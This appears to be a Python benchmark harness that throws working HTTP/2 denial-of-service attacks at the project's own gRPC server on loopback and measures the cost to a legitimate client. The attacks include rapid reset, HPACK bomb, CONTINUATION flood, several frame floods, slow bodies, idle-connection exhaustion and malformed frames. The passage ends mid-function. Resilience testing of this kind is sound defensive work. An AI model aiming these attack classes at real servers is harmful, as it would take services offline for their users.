"""Attacks on our HTTP/2 server: what each attack class costs a well-behaved client.

    python -m benchmarks.attacks [--duration 10] [--attacks ping-flood,rapid-reset]
    python -m benchmarks.run --scenarios attacks [--duration 5]

For each attack, a fresh `coalesce serve` (the bundled example model as a `local`
backend; its gRPC listener is our own HTTP/2: `listen`, or `fast_listen` where the
config still has that) and, for the whole run, in this process:

- the well-behaved client: tritonclient.grpc ModelInfer calls on one connection
  (`--legit-concurrency` threads), `--legit-rate` calls/s in all (200; 0: a closed loop),
  every answer checked, each timed from when it was due;
- a second well-behaved connection (tests/support/h2peer.py) sending a PING every
  20 ms and timing its ACK: how long the server's event loop stalls;
- the server's RSS, sampled every 100 ms.

Then a baseline phase (no attack, `duration` s), the attack phase (`duration` s, the
attacker in processes of its own, so it takes nothing of this process's GIL), and a
recovery phase (`--recovery` s, then the RSS "after").

`--tls` runs the same against the TLS listener: a throwaway certificate, and the client,
the prober and every attacker speaking TLS (ALPN h2); the control-net sink stays
cleartext.

Every attacker process is one host (its own loopback address, 127.0.9.x; the client
is 127.0.0.1), writes raw frames (tests/support/h2peer.py's encoders), reconnects
whenever the server closes a connection or sends it GOAWAY, stops by itself at the
end of its phase, and reports what it saw: connections, GOAWAYs and their codes,
RST_STREAMs, its CPU.

On a small shared machine the attackers' own CPU would otherwise be the attack (a
remote attacker's CPU is not ours): the server is pinned to one CPU, this client and
the attackers to the others (`--no-pin`), and the server and this client run at
niceness `--boost` (-10; their session's autogroup too, as niceness only orders
tasks within one) while the attackers run at `--nice` in sessions of their own. Two
rows are controls, the setup's own floor: `control-cpu`, attackers that only burn CPU,
and `control-net`, the ping flood sent to a socket of the attackers' own. Each row
also says how busy the rest of the machine was (`other load`; noisy beyond 0.25
cores) and each attack first waits up to `--quiet-wait` s for the machine to calm.

Targets, per attack: the client keeps >= 90% of its calls/s and gets no error, p99
<= 2x its baseline, max PING RTT <= 50 ms, RSS max <= baseline + 256 MiB, RSS after
within 10% of baseline. Results: benchmarks/results/attacks-<time>.json and .md
(through benchmarks.run: its own <time>.json, with these rows). Standalone, the exit
status is 1 when an attack misses a target or the client got a wrong answer.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import json
import os
import random
import select
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

from tests.support.coalesce import ROOT, Process, cpu_seconds, free_port
from tests.support.h2peer import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    PUSH_PROMISE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Peer,
    frame,
    grpc_message,
    indexed,
    integer,
    literal,
    request_block,
    settings,
    string,
)

ACK = 0x1
MODEL = "example"
LIVE = "/inference.GRPCInferenceService/ServerLive"
INFER = "/inference.GRPCInferenceService/ModelInfer"
CODES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xA: "CONNECT_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY",
    0xD: "HTTP_1_1_REQUIRED",
}
SHORT = {
    "ENHANCE_YOUR_CALM": "CALM",
    "PROTOCOL_ERROR": "PROTOCOL",
    "FRAME_SIZE_ERROR": "FRAME_SIZE",
    "COMPRESSION_ERROR": "COMPRESSION",
    "SETTINGS_TIMEOUT": "SETTINGS_TIMEOUT",
    "INTERNAL_ERROR": "INTERNAL",
    "FLOW_CONTROL_ERROR": "FLOW_CONTROL",
    "NO_ERROR": "NO_ERROR",
}

# the targets
MIN_THROUGHPUT = 0.90  # of the baseline calls/s
MAX_P99 = 2.0  # x the baseline p99
MAX_PING_MS = 50.0
MAX_RSS_GROWTH_MIB = 256.0
MAX_RSS_AFTER = 0.10  # |after - baseline| / baseline
QUIET_CORES = 0.25  # other load on the machine above which a phase is called noisy

PING_EVERY_S = 0.020
PING_TIMEOUT_S = 2.0
RSS_EVERY_S = 0.100
CALL_TIMEOUT_S = 5.0
# The well-behaved client's pace. A closed loop (--legit-rate 0) measures what this
# client's own CPU gets, which attackers sharing it take (control-cpu: 0.83x with no
# attack on the server at all); a caller at its own pace measures the server.
LEGIT_RATE = 200.0
SPAWN_LEAD_S = 2.0  # attackers start this long after they are spawned (imports, connects)
ATTACKER_GRACE_S = 15.0  # past its phase an attacker is killed

OUT_HIGH = 1 << 18  # an attacker connection with this much unsent waits before more
STALL_S = 5.0  # unsent bytes this long: the server stopped reading; the attacker gives up
MAX_FRAME = 16384
WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)
TLS_CA = ""  # in an attacker process: the CA file of a TLS listener (--tls)
SOURCE = ""  # in an attacker process: the one address its connections come from


# ---------------------------------------------------------------- the attacker side


def huffman(text: bytes) -> bytes:
    """HPACK Huffman coding (RFC 7541 Appendix B) of text made of the ten symbols with
    5-bit codes, 00000 ('0') to 01001 ('t'), in symbol order: 1.6 symbols a byte."""
    bits = count = 0
    out = bytearray()
    for ch in text:
        bits = (bits << 5) | _HUFF5[ch]
        count += 5
        if count >= 8:
            count -= 8
            out.append((bits >> count) & 0xFF)
    if count:  # padded with the most significant bits of EOS (all ones)
        out.append(((bits << (8 - count)) | ((1 << (8 - count)) - 1)) & 0xFF)
    return bytes(out)


_HUFF5 = {c: i for i, c in enumerate(b"012aceiost")}


def headers(stream: int, block: bytes, end_stream: bool = False) -> bytes:
    return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream, block)


def call(stream: int, block: bytes, body: bytes = b"") -> bytes:
    """A complete unary gRPC request: HEADERS, then the message with END_STREAM."""
    return headers(stream, block) + frame(DATA, END_STREAM, stream, grpc_message(body))


class Stats(dict):
    """What one attacker process saw; summed over processes by the parent."""

    def __init__(self) -> None:
        super().__init__(
            connections=0,
            connect_errors=0,
            closed_by_goaway=0,
            closed_without_goaway=0,
            stalled=0,
            open_at_end=0,
            bytes_sent=0,
            answers=0,
            goaway=Counter(),
            rst_received=Counter(),
            accept_ms=[],
            errors=[],
        )

    def error(self, text: str) -> None:
        if len(self["errors"]) < 5:
            self["errors"].append(text)


class Conn:
    """One attacker connection: non-blocking, written from `out`, its answers parsed as
    they come (SETTINGS acknowledged, windows tracked, GOAWAY and RST_STREAM counted)."""

    def __init__(self, port: int, attack: Attack, stats: Stats, timeout: float) -> None:
        self.born = time.monotonic()
        self.stats = stats
        self.attack = attack
        tls = "" if attack.sink else TLS_CA  # the control's own listener is cleartext
        peer = Peer(port, timeout=max(timeout, 0.05), source=SOURCE, tls=tls)
        self.sock = peer.sock
        self.sock.setblocking(False)
        stats["connections"] += 1
        self.generation = stats["connections"]
        self.buf = b""
        self.out = bytearray()
        self.out_since = 0.0
        self.closed = self.lost = False
        self.goaway: int | None = None
        self.settings_at: float | None = None
        self.initial = 65535  # the server's SETTINGS_INITIAL_WINDOW_SIZE
        self.window = 65535  # what we may still send on the connection
        self.windows: dict[int, int] = {}  # streams whose windows we track
        self.next_id = 1
        self.state: dict = {}  # the attack's own, per connection
        first = PREFACE + settings(*attack.settings)
        if attack.credit:  # we read what the server answers: let it send
            first += frame(WINDOW_UPDATE, 0, 0, ((1 << 30) - 65535).to_bytes(4, "big"))
        self.send(first + attack.opened(self))

    def stream(self) -> int:
        sid, self.next_id = self.next_id, self.next_id + 2
        return sid

    def send(self, data: bytes) -> None:
        if self.closed or not data:
            return
        if not self.out:
            self.out_since = time.monotonic()
        self.out += data
        self.flush()

    def flush(self) -> None:
        while self.out and not self.closed:
            try:
                sent = self.sock.send(self.out)
            except WOULD_BLOCK:
                return
            except OSError:  # reset by the server: what it sent before is still readable
                self.read()
                self._lost()
                return
            self.stats["bytes_sent"] += sent
            del self.out[:sent]
            self.out_since = time.monotonic()

    def read(self) -> None:
        while not self.closed:
            try:
                chunk = self.sock.recv(1 << 18)
            except WOULD_BLOCK:
                return
            except OSError:
                chunk = b""
            if not chunk:
                self._lost()
                return
            self.buf += chunk
            self._parse()
            if self.goaway is not None:  # sent away: an attacker does not linger, it reconnects
                self._lost()
                return

    def _parse(self) -> None:
        buf, pos, end = self.buf, 0, len(self.buf)
        stats = self.stats
        while end - pos >= 9:
            length = int.from_bytes(buf[pos : pos + 3], "big")
            stop = pos + 9 + length
            if stop > end:
                break
            kind, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5 : pos + 9], "big") & 0x7FFFFFFF
            payload = buf[pos + 9 : stop]
            pos = stop
            if kind == SETTINGS and not flags & ACK:
                for at in range(0, len(payload) - 5, 6):
                    key, value = struct.unpack_from(">HI", payload, at)
                    if key == 0x4:
                        self.initial = value
                if self.settings_at is None:
                    self.settings_at = time.monotonic()
                    stats["accept_ms"].append(round((self.settings_at - self.born) * 1e3, 3))
                if self.attack.ack_settings:
                    self.out += frame(SETTINGS, ACK, 0)
            elif kind == WINDOW_UPDATE and len(payload) == 4:
                increment = int.from_bytes(payload, "big") & 0x7FFFFFFF
                if not sid:
                    self.window += increment
                elif sid in self.windows:
                    self.windows[sid] += increment
            elif kind == GOAWAY and len(payload) >= 8:
                code = struct.unpack_from(">I", payload, 4)[0]
                if self.goaway is None:
                    self.goaway = code
                    stats["goaway"][CODES.get(code, hex(code))] += 1
            elif kind == RST_STREAM and len(payload) == 4:
                code = int.from_bytes(payload, "big")
                stats["rst_received"][CODES.get(code, hex(code))] += 1
                self.windows.pop(sid, None)
            elif kind == HEADERS:
                stats["answers"] += 1
        self.buf = buf[pos:]

    def _lost(self) -> None:
        """The server closed the connection, or sent it away."""
        if self.closed:
            return
        self.closed = self.lost = True
        if self.goaway is not None:
            self.stats["closed_by_goaway"] += 1
        else:
            self.stats["closed_without_goaway"] += 1
        self.sock.close()

    def close(self) -> None:
        if not self.closed:
            self.closed = True
            self.sock.close()


class Attack:
    """One attack class: what a connection sends when opened, then burst after burst."""

    name = ""
    processes = 2  # attacker processes
    conns = 2  # connections each keeps open (reopened when the server closes one)
    sink = False  # a control: the frames go to a socket of the attacker's own, not the server
    settings: tuple = ((0x4, 1 << 24),)  # ours: a wide stream window for the answers
    credit = True  # widen the connection window at once
    ack_settings = True

    def __init__(self, index: int, body: bytes) -> None:
        self.index, self.body = index, body
        self.rng = random.Random(index)
        self.live = request_block(LIVE)
        self.infer = request_block(INFER)

    def opened(self, c: Conn) -> bytes:
        return b""

    def burst(self, c: Conn) -> bytes | None:
        """The next bytes to send on `c`; None: nothing now."""
        raise NotImplementedError

    def summary(self, conns: list[Conn | None], stats: Stats) -> None:
        """Anything the attack adds to its stats at the end."""


class ControlCpu(Attack):
    """No traffic: the attacker processes only burn CPU where the attackers run. What
    this costs the client is the setup's own floor (a remote attacker's CPU is not
    ours): an attack's figures mean something only beside it."""

    name = "control-cpu"
    conns = 0

    def burst(self, c: Conn) -> None:
        return None


class HpackBomb(Attack):
    """A ~4 KB `-bin` literal added to the dynamic table, then header blocks that name it
    (indexed field 62) 4096 times, in HEADERS + CONTINUATION frames."""

    name = "hpack-bomb"

    def __init__(self, index: int, body: bytes) -> None:
        super().__init__(index, body)
        value = base64.b64encode(self.rng.randbytes(3000))  # 4000 bytes: a 4042-byte entry
        self.entry = literal(b"x-bomb-bin", value, indexed=True)
        self.bomb = self.live + indexed(62) * 4096

    def opened(self, c: Conn) -> bytes:
        return call(c.stream(), self.live + self.entry)  # a valid call: the entry is added

    def burst(self, c: Conn) -> bytes:
        sid, block = c.stream(), self.bomb
        parts = [block[i : i + 1024] for i in range(0, len(block), 1024)]
        out = frame(HEADERS, 0, sid, parts[0])
        out += b"".join(frame(CONTINUATION, 0, sid, p) for p in parts[1:-1])
        out += frame(CONTINUATION, END_HEADERS, sid, parts[-1])
        return out + frame(DATA, END_STREAM, sid, grpc_message())


class HuffmanHeavy(Attack):
    """Valid calls whose one extra header is a Huffman-coded value filling the frame
    (~16 KB coded, ~26 KB decoded), on a new stream each."""

    name = "huffman-heavy"

    def __init__(self, index: int, body: bytes) -> None:
        super().__init__(index, body)
        head = self.live + b"\x00" + string(b"x-huff")
        units = (MAX_FRAME - len(head) - 3) // 5  # 3: the coded length's integer
        # 8 symbols of 5 bits are 5 whole bytes: values are strings of such units
        pool = [huffman(bytes(self.rng.choices(b"012aceiost", k=8))) for _ in range(256)]
        self.blocks = []
        for _ in range(8):
            coded = b"".join(self.rng.choices(pool, k=units))
            block = head + integer(len(coded), 7, 0x80) + coded
            assert len(block) <= MAX_FRAME
            self.blocks.append(block)

    def burst(self, c: Conn) -> bytes:
        return b"".join(call(c.stream(), self.rng.choice(self.blocks)) for _ in range(4))


class SettingsFlood(Attack):
    """1000 streams opened (bodies never finished), then SETTINGS frames of 16 KB, each
    2730 INITIAL_WINDOW_SIZE entries, the value changing from frame to frame."""

    name = "settings-flood"

    def __init__(self, index: int, body: bytes) -> None:
        super().__init__(index, body)
        entries = MAX_FRAME // 6
        self.frames = [
            frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, value) * entries)
            for value in (70000, 80000)
        ]

    def opened(self, c: Conn) -> bytes:
        return b"".join(headers(c.stream(), self.infer) for _ in range(1000))

    def burst(self, c: Conn) -> bytes:
        return b"".join(self.frames) * 4


class PingFlood(Attack):
    name = "ping-flood"

    def __init__(self, index: int, body: bytes) -> None:
        super().__init__(index, body)
        self.pings = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(1000))

    def burst(self, c: Conn) -> bytes:
        return self.pings


class ControlNet(PingFlood):
    """The ping flood, to a socket that the attacker process reads and drops itself: the
    attackers' CPU and loopback traffic, without the server. The setup's floor, with
    the network."""

    name = "control-net"
    sink = True


class WindowUpdateFlood(Attack):
    """WINDOW_UPDATE frames of 1, on the connection and on an open stream, alternately."""

    name = "window-update-flood"

    def __init__(self, index: int, body: bytes) -> None:
        super().__init__(index, body)
        one = (1).to_bytes(4, "big")
        self.frames = b"".join(frame(WINDOW_UPDATE, 0, 1 if i % 2 else 0, one) for i in range(1000))

    def opened(self, c: Conn) -> bytes:
        return headers(c.stream(), self.infer)  # stream 1, its body never finished

    def burst(self, c: Conn) -> bytes:
        return self.frames


class PriorityFlood(Attack):
    name = "priority-flood"

    def __init__(self, index: int, body: bytes) -> None:
        super().__init__(index, body)
        self.frames = b"".join(
            frame(PRIORITY, 0, sid, struct.pack(">IB", sid - 2, 15)) for sid in range(3, 2003, 2)
        )

    def burst(self, c: Conn) -> bytes:
        return self.frames


class EmptyFrames(Attack):
    """Empty DATA frames without END_STREAM on an open stream, and frames of an unknown
    type (0x20), alternately."""

    name = "empty-frames"

    def __init__(self, index: int, body: bytes) -> None:
        super().__init__(index, body)
        self.frames = b"".join(frame(DATA, 0, 1) + frame(0x20, 0, 0) for _ in range(500))

    def opened(self, c: Conn) -> bytes:
        return headers(c.stream(), self.infer)

    def burst(self, c: Conn) -> bytes:
        return self.frames


class ContinuationFlood(Attack):
    """A header block never ended: CONTINUATION after CONTINUATION, 16 KB ones on every
    other connection, empty ones on the rest."""

    name = "continuation-flood"
    ack_settings = False  # acknowledged ahead: an ACK inside the block would end the attack

    def __init__(self, index: int, body: bytes) -> None:
        super().__init__(index, body)
        field = literal(b"x-c", b"a" * 100)
        self.big = frame(CONTINUATION, 0, 1, (field * (MAX_FRAME // len(field)))[:MAX_FRAME])
        self.empty = frame(CONTINUATION, 0, 1)

    def opened(self, c: Conn) -> bytes:
        return frame(SETTINGS, ACK, 0) + frame(HEADERS, 0, c.stream(), self.live)  # no END_HEADERS

    def burst(self, c: Conn) -> bytes:
        return self.big * 4 if c.generation % 2 else self.empty * 64


class RapidReset(Attack):
    """HEADERS + DATA(END_STREAM) + RST_STREAM(CANCEL): a ModelInfer call to the shared
    model started and cancelled at once, 100 streams a burst, on 8 connections."""

    name = "rapid-reset"
    conns = 4

    def burst(self, c: Conn) -> bytes:
        out = []
        cancel = CANCEL.to_bytes(4, "big")
        for _ in range(100):
            sid = c.stream()
            out.append(call(sid, self.infer, self.body) + frame(RST_STREAM, 0, sid, cancel))
        return b"".join(out)


class SlowBodies(Attack):
    """16 connections, each one ModelInfer call whose 48 MiB message never ends: DATA as
    fast as the server's windows allow, never END_STREAM. What the server holds is
    bounded by its windows and its shared receive pool (limits.max_buffered_bytes)."""

    name = "slow-bodies"
    processes = 4
    conns = 4
    message = 48 << 20

    def burst(self, c: Conn) -> bytes | None:
        if c.settings_at is None:
            return None  # the server's initial stream window first
        state = c.state
        sid = state.get("sid")
        if sid is None or sid not in c.windows:  # new, or reset by the server: again
            sid = state["sid"] = c.stream()
            c.windows[sid] = c.initial
            state["left"] = self.message + 5 - 1  # one byte short: never complete
            state["sent"] = 0
            first = struct.pack(">BI", 0, self.message)
            return headers(sid, self.infer) + self._data(c, sid, first)
        return self._data(c, sid, b"") or None

    def _data(self, c: Conn, sid: int, first: bytes) -> bytes:
        state, out = c.state, []
        budget = min(c.window, c.windows[sid], state["left"], OUT_HIGH)
        while budget > 0:
            size = min(budget, MAX_FRAME)
            payload = first[:size] + bytes(size - len(first[:size]))
            first = b""
            out.append(frame(DATA, 0, sid, payload))
            budget -= size
            c.window -= size
            c.windows[sid] -= size
            state["left"] -= size
            state["sent"] += size
        return b"".join(out)

    def summary(self, conns: list[Conn | None], stats: Stats) -> None:
        held = sum(c.state.get("sent", 0) for c in conns if c is not None and not c.closed)
        stats["body_bytes_unfinished"] = held


class IdleConnections(Attack):
    """2000 connections: preface and SETTINGS, then nothing (the server's SETTINGS read
    to time the accept, never acknowledged)."""

    name = "idle"
    processes = 2
    conns = 1000
    settings = ()
    credit = False
    ack_settings = False

    def burst(self, c: Conn) -> None:
        return None


class Malformed(Attack):
    """Malformed requests, each answered by a stream reset or an error status (empty,
    uppercase and connection-specific header names, invalid base64 in a -bin header,
    pseudo-headers out of order or missing, bad values), a field varying per stream so
    no block is cached. Even processes send only those, as HEADERS with END_STREAM (the
    server resets each stream itself: MadeYouReset's currency); odd ones send HEADERS +
    DATA and end every fifth burst with a frame that breaks the connection (bad sizes,
    stream 0 misuse, bad HPACK...)."""

    name = "malformed"
    conns = 4

    def __init__(self, index: int, body: bytes) -> None:
        super().__init__(index, body)
        live = self.live
        self.requests = [
            live + literal(b"", b"x"),
            live + literal(b"X-Upper", b"x"),
            live + literal(b"x-bad-bin", b"a"),
            live + literal(b":method", b"POST"),
            live + literal(b"connection", b"close"),
            live + literal(b"te", b"gzip"),
            b"\x83\x86"
            + literal(b":authority", b"x")
            + literal(b"content-type", b"application/grpc"),
            live + literal(b"content-length", b"abc"),
            live + literal(b"x-nl", b"a\nb"),
            live + literal(b":status", b"200"),
        ]
        self.fatal = [
            frame(PING, 0, 0, b"1234567"),  # FRAME_SIZE_ERROR
            frame(DATA, 0, 0, b"x"),  # PROTOCOL_ERROR
            frame(WINDOW_UPDATE, 0, 0, bytes(4)),  # PROTOCOL_ERROR
            (20000).to_bytes(3, "big") + bytes((DATA, 0)) + (1).to_bytes(4, "big"),
            frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\x10"),  # FRAME_SIZE_ERROR
            frame(SETTINGS, 0, 0, struct.pack(">HI", 0x2, 2)),  # PROTOCOL_ERROR
            frame(PUSH_PROMISE, END_HEADERS, 1, bytes(4) + live),
            frame(CONTINUATION, END_HEADERS, 1, live),
            frame(RST_STREAM, 0, 0x7FFFFF01, bytes(4)),  # on an idle stream
        ]

    def burst(self, c: Conn) -> bytes:
        out = []
        for _ in range(50):
            sid = c.stream()
            block = self.rng.choice(self.requests) + literal(b"x-n", str(sid).encode())
            out.append(call(sid, block) if self.index % 2 else headers(sid, block, True))
        c.state["bursts"] = bursts = c.state.get("bursts", 0) + 1
        if self.index % 2 and bursts % 5 == 0:
            kind = self.rng.randrange(len(self.fatal) + 3)
            if kind < len(self.fatal):
                out.append(self.fatal[kind])
            elif kind == len(self.fatal):  # an index beyond both tables
                out.append(headers(c.stream(), self.live + indexed(200)))
            elif kind == len(self.fatal) + 1:  # HEADERS on an even stream
                out.append(headers(c.next_id + 1, self.live))
            else:  # a Huffman string holding EOS
                out.append(headers(c.stream(), self.live + b"\x00\x01x" + b"\x84\xff\xff\xff\xff"))
        return b"".join(out)


ATTACKS: dict[str, type[Attack]] = {
    a.name: a
    for a in (
        ControlCpu,
        ControlNet,
        HpackBomb,
        HuffmanHeavy,
        SettingsFlood,
        PingFlood,
        WindowUpdateFlood,
        PriorityFlood,
        EmptyFrames,
        ContinuationFlood,
        RapidReset,
        SlowBodies,
        IdleConnections,
        Malformed,
    )
}


def attacker(name: str, port: int, start: float, stop: float, index: int, body: bytes) -> Stats:
    """One attacker process's loop: its connections kept open and busy until `stop`
    (time.monotonic(), the same clock in every process)."""
    attack = ATTACKS[name](index, body)
    stats = Stats()
    while time.monotonic() < start:
        time.sleep(min(0.01, max(start - time.monotonic(), 0)))
    stats["late_s"] = round(time.monotonic() - start, 3)
    begun = os.times()
    if not attack.conns:  # the control: CPU only
        while time.monotonic() < stop:
            sum(range(1000))
    conns: list[Conn | None] = [None] * attack.conns
    retry = [0.0] * attack.conns
    by_fd: dict[int, Conn] = {}
    poller = select.poll()
    sink, sunk = None, []
    if attack.sink:  # the control: a listener of our own takes the frames
        sink = socket.create_server(("127.0.0.1", 0))
        sink.setblocking(False)
        port = sink.getsockname()[1]
    while True:
        now = time.monotonic()
        if now >= stop:
            break
        if sink is not None:
            sunk += drain(sink, sunk)
        sent = False
        for i in range(attack.conns):
            c = conns[i]
            if c is None or c.closed:
                if now < retry[i]:
                    continue
                if c is not None:
                    with contextlib.suppress(KeyError, ValueError):
                        poller.unregister(c.fd)
                    by_fd.pop(c.fd, None)
                    conns[i] = None
                try:
                    c = Conn(port, attack, stats, timeout=min(1.0, stop - now))
                except OSError as exc:
                    stats["connect_errors"] += 1
                    stats.error(f"connect: {exc!r}")
                    retry[i] = now + 0.05
                    continue
                c.fd = c.sock.fileno()
                conns[i], by_fd[c.fd] = c, c
                poller.register(c.fd, select.POLLIN)
                if attack.conns > 16 and i % 16 == 15:  # many opens: read the greetings
                    for fd, _ in poller.poll(0):
                        by_fd[fd].read()
                    now = time.monotonic()
                    if now >= stop:
                        break
            if c.closed:
                continue
            if c.out:
                c.flush()
                if c.out and now - c.out_since > STALL_S:
                    stats["stalled"] += 1
                    c.close()
                    continue
            if len(c.out) < OUT_HIGH:
                data = attack.burst(c)
                if data:
                    c.send(data)
                    sent = True
        pending = any(c is not None and c.out and not c.closed for c in conns)
        wait = 0 if sent else (5 if pending else 50)
        for fd, _ in poller.poll(min(wait, max((stop - time.monotonic()) * 1e3, 0))):
            c = by_fd.get(fd)
            if c is not None:
                c.read()
                c.flush()
    attack.summary(conns, stats)
    times = os.times()
    stats["cpu_s"] = round(times.user + times.system, 3)  # imports and setup included
    stats["attack_cpu_s"] = round(times.user + times.system - begun.user - begun.system, 3)
    for c in conns:
        if c is not None and not c.closed:
            c.read()
            if not c.closed:
                stats["open_at_end"] += 1
                c.close()
    for peer in sunk:
        peer.close()
    if sink is not None:
        sink.close()
    return stats


def lower_priority(nice: str) -> None:
    """`idle`: SCHED_IDLE, run only when nothing else wants the CPU (and preempted at
    once when something does); a number: that niceness."""
    if nice == "idle":
        os.setpriority(os.PRIO_PROCESS, 0, 19)
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    else:  # absolute: not what we inherited (the parent may run boosted)
        os.setpriority(os.PRIO_PROCESS, 0, int(nice))


def drain(sink: socket.socket, sunk: list[socket.socket]) -> list[socket.socket]:
    """The control's listener: what is sent to it read and dropped; its new peers."""
    new = []
    with contextlib.suppress(BlockingIOError):
        while True:
            peer, _ = sink.accept()
            peer.setblocking(False)
            new.append(peer)
    for peer in sunk + new:
        with contextlib.suppress(BlockingIOError, OSError):
            while peer.recv(1 << 18):
                pass
    return new


def attacker_main(args) -> int:
    global TLS_CA, SOURCE
    TLS_CA = args.tls_ca
    # One attacking host per process, not the client's (127.0.0.1): penalties are per
    # address, and an attacker with an address per connection is a botnet, not this.
    SOURCE = f"127.0.9.{args.index + 2}"
    lower_priority(args.nice)
    if args.cpus:
        os.sched_setaffinity(0, {int(c) for c in args.cpus.split(",")})
    body = Path(args.body).read_bytes()
    try:
        stats = attacker(args.attacker, args.port, args.start, args.stop, args.index, body)
    except Exception as exc:  # reported to the parent, which shows it in the results
        stats = Stats()
        stats.error(f"attacker crashed: {exc!r}")
        import traceback

        traceback.print_exc()
    print(json.dumps(stats), flush=True)
    return 0


# ---------------------------------------------------------------- the measuring side


class Monitor:
    """The well-behaved client, the PING prober and the RSS sampler, in threads."""

    def __init__(
        self, url: str, port: int, pid: int, concurrency: int, tls: str = "", rate: float = 0.0
    ) -> None:
        import numpy as np
        import tritonclient.grpc as grpcclient
        from coalesce.example_model import load

        self.np = np
        self.port, self.pid, self.tls = port, pid, tls
        self.period = concurrency / rate if rate > 0 else 0.0  # each thread's, when paced
        self.concurrency = concurrency
        self.records: list[tuple[float, float, int]] = []  # (end, latency s, 0 ok 1 error 2 wrong)
        self.pings: list[tuple[float, float]] = []  # (sent, rtt s)
        self.rss: list[tuple[float, float]] = []
        self.errors: Counter = Counter()
        self.ping_errors: Counter = Counter()
        self._stop = threading.Event()
        self.client = (
            grpcclient.InferenceServerClient(url, ssl=True, root_certificates=tls)
            if tls
            else grpcclient.InferenceServerClient(url)
        )
        model = load()
        rng = np.random.default_rng(1)
        self.inputs = []
        for _ in range(concurrency):
            mine = []
            for _ in range(64):
                x = rng.standard_normal((1, 4), dtype=np.float32)
                inp = grpcclient.InferInput("x", [1, 4], "FP32")
                inp.set_data_from_numpy(x)
                mine.append((inp, model({"x": x})["probabilities"]))
            self.inputs.append(mine)
        self.threads = [
            threading.Thread(target=self._legit, args=(k,), daemon=True) for k in range(concurrency)
        ]
        self.threads += [
            threading.Thread(target=self._pinger, daemon=True),
            threading.Thread(target=self._sampler, daemon=True),
        ]

    def start(self) -> None:
        for thread in self.threads:
            thread.start()

    def stop(self) -> None:
        self._stop.set()
        for thread in self.threads:
            thread.join(CALL_TIMEOUT_S + 2)
        self.client.close()

    def _legit(self, k: int) -> None:
        """Closed loop, or paced (`period`): a call every `period` s, its latency timed
        from when it was due, so that a call held up by a late one counts its wait too
        (no coordinated omission)."""
        np, client, mine, period = self.np, self.client, self.inputs[k], self.period
        i = 0
        due = time.monotonic() + k * period / self.concurrency
        while not self._stop.is_set():
            inp, want = mine[i % len(mine)]
            i += 1
            if period:
                if (ahead := due - time.monotonic()) > 0 and self._stop.wait(ahead):
                    return
                start, due = due, due + period
            else:
                start = time.monotonic()
            try:
                got = client.infer(MODEL, [inp], client_timeout=CALL_TIMEOUT_S)
                y = got.as_numpy("probabilities")
                status = 0 if y is not None and np.allclose(y, want, rtol=1e-5, atol=1e-6) else 2
            except Exception as exc:
                status = 1
                self.errors[f"{type(exc).__name__}: {str(exc)[:160]}"] += 1
            end = time.monotonic()
            self.records.append((end, end - start, status))
            if status == 1:
                self._stop.wait(0.01)

    def _pinger(self) -> None:
        peer: Peer | None = None
        n = 0
        while not self._stop.is_set():
            start = time.monotonic()
            try:
                if peer is None:
                    peer = Peer(self.port, timeout=PING_TIMEOUT_S, tls=self.tls).handshake()
                    start = time.monotonic()
                rtt = peer.ping(struct.pack(">Q", n), timeout=PING_TIMEOUT_S)
                if len(peer.frames) > 1000:
                    peer.frames.clear()
            except (OSError, ConnectionError) as exc:  # TimeoutError is an OSError
                rtt = time.monotonic() - start
                self.ping_errors[type(exc).__name__] += 1
                if peer is not None:
                    peer.close()
                peer = None
            self.pings.append((start, rtt))
            n += 1
            self._stop.wait(max(PING_EVERY_S - rtt, 0.001))
        if peer is not None:
            peer.close()

    def _sampler(self) -> None:
        from benchmarks.run import rss_mib

        while not self._stop.is_set():
            try:
                self.rss.append((time.monotonic(), rss_mib(self.pid)))
            except (FileNotFoundError, ProcessLookupError):
                return
            self._stop.wait(RSS_EVERY_S)

    # windows of what was recorded

    def calls(self, t0: float, t1: float) -> list[tuple[float, float, int]]:
        return [r for r in self.records if t0 <= r[0] < t1]

    def rss_in(self, t0: float, t1: float) -> list[float]:
        return [m for t, m in self.rss if t0 <= t < t1]

    def pings_in(self, t0: float, t1: float) -> list[float]:
        return [rtt for t, rtt in self.pings if t0 <= t < t1]


def pct(values: list[float], q: float) -> float:
    if not values:
        return float("nan")
    values = sorted(values)
    return values[min(int(q / 100 * len(values)), len(values) - 1)]


def median(values: list[float]) -> float:
    return pct(values, 50)


def phase(monitor: Monitor, t0: float, t1: float) -> dict:
    calls = monitor.calls(t0, t1)
    ok = [lat * 1e3 for _, lat, status in calls if status == 0]
    pings = [rtt * 1e3 for rtt in monitor.pings_in(t0, t1)]
    return {
        "seconds": round(t1 - t0, 3),
        "calls": len(ok),
        "rps": len(ok) / max(t1 - t0, 1e-9),
        "errors": sum(1 for c in calls if c[2] == 1),
        "wrong": sum(1 for c in calls if c[2] == 2),
        "p50_ms": pct(ok, 50),
        "p90_ms": pct(ok, 90),
        "p99_ms": pct(ok, 99),
        "max_ms": max(ok, default=float("nan")),
        "pings": len(pings),
        "ping_p50_ms": pct(pings, 50),
        "ping_p99_ms": pct(pings, 99),
        "ping_max_ms": max(pings, default=float("nan")),
    }


def merge(stats: list[dict]) -> dict:
    total: dict = {}
    for one in stats:
        for key, value in one.items():
            if isinstance(value, dict):
                into = total.setdefault(key, {})
                for k, v in value.items():
